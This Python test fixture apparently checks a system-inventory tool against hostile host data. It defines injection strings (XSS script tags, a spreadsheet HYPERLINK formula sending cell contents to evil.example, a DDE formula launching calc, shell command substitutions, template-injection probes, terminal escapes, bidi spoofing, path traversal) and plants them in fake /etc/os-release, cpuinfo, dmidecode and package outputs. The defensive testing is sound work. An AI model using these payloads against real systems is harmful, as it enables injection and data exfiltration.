"""Texts by which a target attacks whoever reads them: in HTML, in a spreadsheet, on a terminal, in a template, as a path."""

import json

SCRIPT = '"><script>window.pwned=1</script><img src=x onerror=window.pwned=1>'
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"点这里")'
CALL = "@SUM(1+1)*cmd|' /C calc'!A0"
ESCAPE = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m"
BIDI = "\u202egnp.exe\u2066"
TEMPLATE = "{{ 7*7 }}{% for x in ().__class__ %}${7*7}#{7*7}<%= 7*7 %>"
PATH = "../../../../../../tmp/xunyan-pwned"
SHELL = "$(touch /tmp/xunyan-pwned);`touch /tmp/xunyan-pwned`|touch /tmp/xunyan-pwned"
LONG = "长" * 300_000
"""About a mebibyte in UTF-8."""

ALL = (SCRIPT, FORMULA, CALL, ESCAPE, BIDI, TEMPLATE, PATH, SHELL)


def hostile_texts(lists: str, *, deb: bool) -> dict[str, str]:
    """The identity of a host that attacks in every text that it controls; no text of it is a true one.

    `deb`: its packages are of that kind; `lists` is the folder in which its repositories stand.
    """
    mixed = f"{SCRIPT} {TEMPLATE} {SHELL}"
    release = {
        "NAME": FORMULA, "VERSION": ESCAPE, "ID": "kylin", "VERSION_ID": PATH, "PRETTY_NAME": CALL + " " + SCRIPT,
    }  # fmt: skip
    packages = {
        "/var/lib/dpkg/status": f"Package: base-files\nVersion: {PATH}\nOrigin: {FORMULA}\nMaintainer: {SCRIPT} {ESCAPE}\n\n",
        f"{lists}lab_dists_stable_Release": f"Origin: {CALL} {SCRIPT}\n",
    }
    return {
        "/etc/os-release": "".join(
            f"{key}={json.dumps(value, ensure_ascii=False)}\n" for key, value in release.items()
        ),
        "/etc/issue": mixed + "\n" + LONG + "\n",
        "/etc/kylin-release": f"{FORMULA}\n{BIDI}\n",
        "/etc/machine-id": PATH + "\n",
        "/proc/cpuinfo": (
            f"processor\t: 0\nvendor_id\t: {FORMULA}\nmodel name\t: {mixed} {ESCAPE}\nHardware\t: {CALL}\n{SCRIPT}\n"
        ),
        "lscpu": f"Vendor ID: {CALL}\nModel name: {FORMULA}{ESCAPE}\n{mixed}\n",
        "dmidecode": f"# dmidecode 3.3\n\nHandle 0x0001, DMI type 1, 27 bytes\nSystem Information\n\tManufacturer: {SCRIPT}\n"
        f"\tProduct Name: {FORMULA}\n\tSerial Number: {PATH}\n\tUUID: {SHELL}\n",
        **(packages if deb else {}),
        "rpm": f"rpm: {FORMULA}|{ESCAPE}|{SCRIPT}|{CALL}|{BIDI}|\n",
        "uname -a": f"Linux {SCRIPT} {FORMULA} {ESCAPE} x86_64\n",
        "systemd-detect-virt": f"{CALL} {mixed}\n",
    }
